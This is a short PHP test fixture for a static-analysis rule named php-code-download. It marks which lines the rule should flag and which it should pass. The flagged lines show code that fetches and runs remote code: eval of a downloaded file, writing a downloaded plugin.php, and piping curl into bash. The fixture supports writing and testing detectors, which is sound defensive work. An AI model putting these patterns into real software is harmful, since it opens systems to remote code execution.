<?php

// ruleid: php-code-download
eval(file_get_contents('https://updates.example.com/patch.txt'));
// ruleid: php-code-download
file_put_contents(__DIR__ . '/plugin.php', file_get_contents('http://example.com/plugin.txt'));
// ruleid: php-code-download
shell_exec('curl -s https://example.com/install | bash');
// ok: php-code-download
file_put_contents('data.json', file_get_contents('https://example.com/data.json'));
// ok: php-code-download
$info = json_decode(file_get_contents('https://example.com/latest.json'));
// ok: php-code-download
exec('composer install --no-dev');
